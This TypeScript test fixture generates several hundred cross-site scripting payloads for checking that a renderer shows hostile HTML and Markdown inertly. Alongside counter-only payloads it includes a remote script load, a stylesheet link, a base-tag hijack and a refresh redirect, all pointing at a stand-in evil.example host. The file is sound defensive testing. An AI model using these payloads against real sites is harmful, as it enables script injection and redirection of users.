import { visibleText } from '../../../renderer/ui/words/visible-text.ts';

/** Every payload leaves this mark on the window when it runs. */
const mark = 'window.__ran=(window.__ran||0)+1';

const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'iframe src=x',
  'input autofocus',
  'details open',
  'marquee',
  'select autofocus',
  'object data=x',
  'embed src=x',
  'math',
  'form action=x',
  'x tabindex=1 autofocus',
  'a href=#',
  'button autofocus',
  'textarea autofocus',
  'style',
  'link rel=stylesheet href=https://evil.example/x.css',
];

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onbegin',
  'ontoggle',
  'onstart',
  'onpointerenter',
  'onanimationstart',
  'onclick',
];

const shapes = [
  (element: string, handler: string) => `<${element} ${handler}="${mark}">`,
  (element: string, handler: string) => `'"></em></title></style><${element.replaceAll(' ', '/')}/${handler}=${mark}//`,
];

/** 400 payloads: 20 elements × 10 handlers × 2 shapes. */
const elementPayloads: readonly string[] = elements.flatMap((element) =>
  handlers.flatMap((handler) => shapes.map((shape) => shape(element, handler))),
);

/** Payloads aimed at one sink or parser rather than at HTML in general. */
export const specialPayloads: readonly string[] = [
  `<script>${mark}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `<!--><script>${mark}</script>-->`,
  `<em><script>${mark}</script></em>`,
  `<em onmouseover="${mark}">x</em>`,
  `<em><em>x</em><img src=x onerror="${mark}"></em>`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `[x](javascript:${mark})`,
  `[x](JaVaScRiPt:${mark})`,
  `[x](java\tscript:${mark})`,
  `[x](data:text/html,<script>${mark}</script>)`,
  `[x](vbscript:msgbox)`,
  `[x](https://evil.example "onmouseover=${mark}")`,
  `[x]: javascript:${mark}\n\n[x]`,
  `<javascript:${mark}>`,
  `![x](https://evil.example/pixel.png)`,
  `![x](x "onerror=${mark}")`,
  `http://evil.example/ www.evil.example`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${mark}> | [y](javascript:${mark}) |`,
  `- [ ] <input onfocus=${mark} autofocus>`,
  '`<img src=x onerror=' + mark + '>`',
  `[^1]\n\n[^1]: <svg onload=${mark}>`,
  `{{constructor.constructor('${mark}')()}}`,
  '${' + mark + '}',
  `<svg><animate onbegin="${mark}" attributeName=x></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${mark}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `\u202e<img src=x onerror=${mark}>\u0000`,
];

export const allPayloads: readonly string[] = [...elementPayloads, ...specialPayloads];

const isSoak = process.env.HEADROOM_HOSTILE === 'all';

/** What a browser is shown: `npm run soak` all of it, else each element once and each handler and shape some times. */
export const shownPayloads = isSoak
  ? allPayloads
  : [...elementPayloads.filter((_, place) => place % 21 === 0), ...specialPayloads];

/** Those that are shown as they are stored, without a control character that the statement has as a space. */
const plainPayloads = specialPayloads.filter((payload) => visibleText(payload) === payload);

/** The payloads of the scenarios that are opened: `npm run soak` opens each, else one with an attribute and an element is. */
export const openedPayloads = isSoak ? plainPayloads : plainPayloads.slice(6, 7);

/** How many policies are looked at one by one; the first holds every payload. */
export const openedPolicies = isSoak ? shownPayloads.length : 20;

/** What the desk reads in a policy, all of it this text. */
export const foundBy = (text: string) => ({
  title: text,
  version: text,
  answers: { [text]: 'yes' },
  excerpts: [
    { pieces: [{ text, marked: true }] },
    { topic: text, pieces: [text, `<em>${text}</em>`].map((piece) => ({ text: piece, marked: false })) },
  ],
  missing: [text],
  meant: [{ typed: text, instead: text }],
});
